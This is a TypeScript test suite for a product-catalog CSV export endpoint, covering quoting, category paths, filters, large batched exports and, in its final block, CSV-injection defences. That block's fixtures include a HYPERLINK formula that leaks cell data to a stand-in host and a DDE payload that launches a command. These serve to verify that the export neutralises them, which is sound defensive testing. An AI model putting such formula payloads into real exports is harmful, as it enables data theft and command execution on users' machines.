/**
 * GET /api/export/csv: headers, RFC 4180 quoting (parsed back), the most specific category
 * paths joined by "; ", the product-list filters and sort, and an export spanning several
 * internal batches with every product exactly once.
 */
import type { Category, ErrorEnvelope, Pagination, Product } from '@tag-manager/contract';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryRows } from '../../db/client.js';
import { seedCatalog } from '../seed/seeder.js';
import {
  createCategory,
  createSampleTree,
  importProductsCsv,
  shopifyCsv,
} from '../../../test/helpers/fixtures.js';
import {
  createTestApp,
  invariantViolations,
  snapshot,
  type TestApp,
} from '../../../test/helpers/test-app.js';

interface Ok<Data> {
  success: true;
  data: Data;
}
interface ProductList extends Ok<Product[]> {
  pagination: Pagination;
}

const HEADER = 'product_id,product_name,categories';

let test: TestApp;
let tree: Awaited<ReturnType<typeof createSampleTree>>;

const PRODUCTS = [
  { handle: 'comma', title: 'Sealant, grey, 300ml', vendor: 'Sika' },
  { handle: 'quote', title: 'Say "Hi", then "Bye"', vendor: 'Sika', status: 'draft' },
  { handle: 'newline', title: 'Line one\nLine two\r\nLine three', vendor: 'Bostik' },
  { handle: 'bostik-ultraset®-sf', title: 'Bostik Ultraset® SF — 日本', vendor: 'Bostik' },
  { handle: 'plain', title: 'Plain Product', vendor: 'Ardex', status: 'archived' },
  { handle: 'two-branches', title: 'Two Branches', vendor: 'Ardex' },
  { handle: 'mid-level', title: 'Mid Level', vendor: 'Ardex' },
  { handle: 'semi;colon', title: 'Semi; colon, and "both"', vendor: 'Wet Seal' },
];

async function assign(handle: string, categoryIds: number[]) {
  const response = await test.request({
    method: 'POST',
    url: `/api/products/${encodeURIComponent(handle)}/categories`,
    payload: { category_ids: categoryIds },
  });
  expect(response.statusCode).toBe(201);
}

/** The export without its byte order mark (on by default; tested on its own below). */
async function exportCsv(app: TestApp, query = '') {
  const response = await app.request(`/api/export/csv?bom=false${query ? `&${query}` : ''}`);
  expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
  return response;
}

function parseCsv(text: string): string[][] {
  return parse(text, { relax_column_count: false }) as string[][];
}

/** The export's rows as {handle: [name, categories]}, checking the header on the way. */
function rowsOf(text: string): string[][] {
  const records = parseCsv(text);
  expect(records[0]).toEqual(['product_id', 'product_name', 'categories']);
  return records.slice(1);
}

/** Every handle of the product list for the same filters, in its order. */
async function listedHandles(app: TestApp, query: string): Promise<string[]> {
  const response = await app.request(`/api/products?limit=500${query ? `&${query}` : ''}`);
  expect(response.statusCode).toBe(200);
  const body = response.json<ProductList>();
  expect(body.pagination.has_next).toBe(false);
  return body.data.map((item) => item.product_id);
}

beforeAll(async () => {
  test = await createTestApp();
  tree = await createSampleTree(test);
  expect((await importProductsCsv(test, shopifyCsv(PRODUCTS))).statusCode).toBe(200);
  await assign('comma', [tree.manualGuns.id]);
  await assign('quote', [tree.manualGuns.id, tree.neutralCure.id]);
  await assign('two-branches', [tree.batteryGuns.id, tree.manualGuns.id, tree.trowels.id]);
  await assign('mid-level', [tree.guns.id, tree.sealants.id]);
  await assign('bostik-ultraset®-sf', [tree.tools.id]);
});
afterAll(async () => {
  await test.close();
});

describe('the CSV export', () => {
  it('answers text/csv as a dated attachment, UTF-8 BOM then header first; bom=false drops the BOM', async () => {
    const response = await test.request('/api/export/csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv\b/);
    expect(response.headers['content-type']).toContain('charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="tag-manager-export-${today}.csv"`,
    );
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(response.body.split(/\r?\n/)[0]).toBe(`\uFEFF${HEADER}`);
    const plain = await exportCsv(test);
    expect(plain.rawPayload[0]).toBe(HEADER.charCodeAt(0));
    expect(plain.body.split(/\r?\n/)[0]).toBe(HEADER);
    expect(await invariantViolations(test.db)).toEqual([]);
  });

  it('quotes commas, quotes and newlines as RFC 4180 says, and parses back to the stored values', async () => {
    const response = await exportCsv(test);
    const text = response.body;
    expect(text).toContain('"Sealant, grey, 300ml"');
    expect(text).toContain('"Say ""Hi"", then ""Bye"""');
    expect(text).toContain('"Line one\nLine two\r\nLine three"');

    const rows = rowsOf(text);
    expect(rows).toHaveLength(PRODUCTS.length);
    for (const row of rows) expect(row).toHaveLength(3);
    const names = new Map(rows.map((row) => [row[0]!, row[1]!]));
    const stored = await queryRows<{ product_id: string; product_name: string }>(
      test.db,
      sql`select product_id, product_name from products`,
    );
    expect(stored).toHaveLength(PRODUCTS.length);
    for (const product of stored) expect(names.get(product.product_id)).toBe(product.product_name);
    expect(names.get('quote')).toBe('Say "Hi", then "Bye"');
    expect(names.get('newline')).toBe('Line one\nLine two\r\nLine three');
    expect(names.get('bostik-ultraset®-sf')).toBe('Bostik Ultraset® SF — 日本');
    expect(await invariantViolations(test.db)).toEqual([]);
  });

  it('lists the most specific assigned categories as paths joined by "; "', async () => {
    const rows = rowsOf((await exportCsv(test)).body);
    const categories = new Map(rows.map((row) => [row[0]!, row[2]!]));
    expect(Object.fromEntries(categories)).toEqual({
      comma: 'Trade Tools > Caulking Guns > Manual Guns',
      quote: 'Sealants > Silicone > Neutral Cure; Trade Tools > Caulking Guns > Manual Guns',
      newline: '',
      'bostik-ultraset®-sf': 'Trade Tools',
      plain: '',
      'two-branches':
        'Trade Tools > Trowels; Trade Tools > Caulking Guns > Battery Guns; Trade Tools > Caulking Guns > Manual Guns',
      'mid-level': 'Sealants; Trade Tools > Caulking Guns',
      'semi;colon': '',
    });
    expect(await invariantViolations(test.db)).toEqual([]);
  });

  it('follows renames: paths use the current names', async () => {
    const renamed = await test.request({
      method: 'PATCH',
      url: `/api/categories/${tree.guns.id}`,
      payload: { name: 'Sealant Guns, Pro' },
    });
    expect(renamed.statusCode).toBe(200);
    try {
      const text = (await exportCsv(test, 'search=comma')).body;
      expect(rowsOf(text)).toEqual([
        ['comma', 'Sealant, grey, 300ml', 'Trade Tools > Sealant Guns, Pro > Manual Guns'],
      ]);
    } finally {
      const back = await test.request({
        method: 'PATCH',
        url: `/api/categories/${tree.guns.id}`,
        payload: { name: 'Caulking Guns' },
      });
      expect(back.statusCode).toBe(200);
    }
    expect(await invariantViolations(test.db)).toEqual([]);
  });

  it('honours the product-list filters and sort', async () => {
    const queries = [
      '',
      'hide_allocated=true',
      'search=line',
      // A lone '"' has no letter or digit: 422 since the hardening (products.test.ts).
      `search=${encodeURIComponent('"Bye"')}`,
      `category_id=${tree.guns.id}`,
      `category_id=${tree.guns.id}&include_descendants=false`,
      `category_id=${tree.manualGuns.id}`,
      'vendor=Ardex',
      'status=draft',
      'status=archived&vendor=Ardex',
      'vendor=Sika&hide_allocated=true',
      'sort=-product_name',
      'sort=product_id',
      'sort=-last_modified&vendor=Bostik',
    ];
    for (const query of queries) {
      const exported = rowsOf((await exportCsv(test, query)).body).map((row) => row[0]);
      expect(exported, query).toEqual(await listedHandles(test, query));
    }
    expect(
      rowsOf((await exportCsv(test, `category_id=${tree.guns.id}&include_descendants=false`)).body),
    ).toEqual([['mid-level', 'Mid Level', 'Sealants; Trade Tools > Caulking Guns']]);
    expect(rowsOf((await exportCsv(test, 'search=nothing-matches')).body)).toEqual([]);
    expect(await invariantViolations(test.db)).toEqual([]);
  });

  it('rejects invalid filters with a 422 envelope and writes nothing', async () => {
    const before = await snapshot(test.db);
    for (const query of [
      'status=deleted',
      'sort=price',
      'category_id=0',
      'limit=5',
      'hide_allocated=perhaps',
    ]) {
      const response = await test.request(`/api/export/csv?${query}`);
      expect(response.statusCode, query).toBe(422);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.json<ErrorEnvelope>().code).toBe('VALIDATION_ERROR');
    }
    expect(await snapshot(test.db)).toEqual(before);
    expect(await invariantViolations(test.db)).toEqual([]);
  });
  it('answers a failure before the first row with the JSON error envelope, not a broken CSV', async () => {
    // Fault injection: the product query fails (the table is briefly out of reach).
    await test.db.execute(sql`alter table products rename to products_hidden`);
    try {
      const response = await test.request('/api/export/csv');
      expect(response.statusCode).toBe(500);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.headers['content-disposition']).toBeUndefined();
      const body = response.json<ErrorEnvelope>();
      expect(body.success).toBe(false);
      expect(body.code).toBe('INTERNAL_ERROR');
      expect(body.request_id).toBe(response.headers['x-request-id']);
    } finally {
      await test.db.execute(sql`alter table products_hidden rename to products`);
    }
    expect(rowsOf((await exportCsv(test)).body)).toHaveLength(PRODUCTS.length);
    expect(await invariantViolations(test.db)).toEqual([]);
  });
});

describe('a large export', () => {
  it('spans several internal batches with every product exactly once and the right paths', async () => {
    const large = await createTestApp();
    try {
      const seeded = await seedCatalog(large.database, { products: 2500 });
      expect(seeded.products).toBe(2500);

      const text = (await exportCsv(large)).body;
      const rows = rowsOf(text);
      expect(rows).toHaveLength(2500);
      const handles = rows.map((row) => row[0]!);
      expect(new Set(handles).size).toBe(2500);

      const stored = await queryRows<{ product_id: string; product_name: string }>(
        large.db,
        sql`select product_id, product_name from products order by product_name, id`,
      );
      expect(handles).toEqual(stored.map((row) => row.product_id));
      expect(rows.map((row) => row[1])).toEqual(stored.map((row) => row.product_name));

      // The expected categories column, computed from the assignment table and the category paths.
      const categories = (await large.request('/api/categories')).json<Ok<Category[]>>().data;
      const byId = new Map(categories.map((category) => [category.id, category]));
      const assignments = await queryRows<{ product_id: string; category_id: number }>(
        large.db,
        sql`select p.product_id, pc.category_id from product_categories pc join products p on p.id = pc.product_id`,
      );
      const assigned = new Map<string, number[]>();
      for (const row of assignments)
        assigned.set(row.product_id, [...(assigned.get(row.product_id) ?? []), row.category_id]);
      let categorised = 0;
      for (const [handle, , column] of rows as [string, string, string][]) {
        const ids = assigned.get(handle) ?? [];
        const parents = new Set(ids.map((id) => byId.get(id)!.parent_id));
        const leaves = ids.filter((id) => !parents.has(id)).map((id) => byId.get(id)!.path);
        expect(column.split('; ').filter(Boolean).sort(), handle).toEqual(leaves.sort());
        if (ids.length > 0) categorised += 1;
      }
      expect(categorised).toBeGreaterThan(1000);

      // Ties on the sort column (one last_modified for the whole seed) across batch boundaries.
      for (const sort of ['-last_modified', 'last_modified', '-product_id']) {
        const sorted = rowsOf((await exportCsv(large, `sort=${sort}`)).body).map((row) => row[0]!);
        expect(sorted, sort).toHaveLength(2500);
        expect(new Set(sorted).size, sort).toBe(2500);
        expect([...sorted].sort(), sort).toEqual([...handles].sort());
      }

      // A filtered export over several batches matches the count of the list.
      const active = rowsOf((await exportCsv(large, 'status=active')).body);
      const count = await large.request('/api/products?status=active&limit=1');
      expect(active).toHaveLength(count.json<ProductList>().pagination.total_items);
      expect(active.length).toBeGreaterThan(2000);
      expect(new Set(active.map((row) => row[0])).size).toBe(active.length);
      expect(await invariantViolations(large.db)).toEqual([]);
    } finally {
      await large.close();
    }
  });
});

/**
 * M1 of the hardening review: cells that a spreadsheet runs as formulas. The export wrote them
 * unchanged; now each one starts with an apostrophe, and nothing else in the file changes.
 */
describe('formula cells (CSV injection)', () => {
  const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
  const HOSTILE = [
    { handle: 'hyperlink', title: '=HYPERLINK("http://x.example/?leak="&A1,"Click")' },
    { handle: 'dde', title: "=cmd|' /C calc'!A0" },
    { handle: '+1', title: '+1' },
    { handle: '-1', title: '-1' },
    { handle: '@sum', title: '@SUM(1)' },
    { handle: '=1+1', title: 'Plain title, hostile handle' },
    { handle: 'fullwidth', title: '＝1+1' },
    { handle: 'not-leading', title: 'Sealant = best, +1 @ 20%' },
  ];

  it('prefixes every formula-leading cell with an apostrophe: names, handles, category paths', async () => {
    const hostile = await createTestApp();
    try {
      expect((await importProductsCsv(hostile, shopifyCsv(HOSTILE))).statusCode).toBe(200);
      // A tab or carriage return cannot survive the import (cells are trimmed), but the
      // export neutralises whatever is stored.
      await hostile.db.execute(
        sql`insert into products (product_id, product_name) values ('tab', ${'\tx'}), ('cr', ${'\rx'})`,
      );
      const root = await createCategory(hostile, { name: '=HYPERLINK("http://x")' });
      const child = await createCategory(hostile, { name: '@child', parent_id: root.id });
      const response = await hostile.request({
        method: 'POST',
        url: '/api/products/dde/categories',
        payload: { category_ids: [child.id] },
      });
      expect(response.statusCode).toBe(201);

      const text = (await exportCsv(hostile)).body;
      const rows = rowsOf(text);
      const stored = await queryRows<{ product_id: string; product_name: string }>(
        hostile.db,
        sql`select product_id, product_name from products`,
      );
      expect(rows).toHaveLength(stored.length);
      const exported = new Map(rows.map((row) => [row[0]!, row]));
      const neutral = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);
      for (const product of stored) {
        const row = exported.get(neutral(product.product_id));
        expect(row, product.product_id).toBeDefined();
        expect(row![1]).toBe(neutral(product.product_name));
      }
      // No cell of the file, header included, starts a formula.
      for (const row of parseCsv(text)) {
        for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      }
      expect(exported.get('dde')).toEqual([
        'dde',
        "'=cmd|' /C calc'!A0",
        `'=HYPERLINK("http://x") > @child`,
      ]);
      expect(exported.get("'-1")![1]).toBe("'-1");
      expect(exported.get('tab')![1]).toBe("'\tx");
      expect(exported.get('cr')![1]).toBe("'\rx");
      expect(exported.get('not-leading')![1]).toBe('Sealant = best, +1 @ 20%');
    } finally {
      await hostile.close();
    }
  });
});
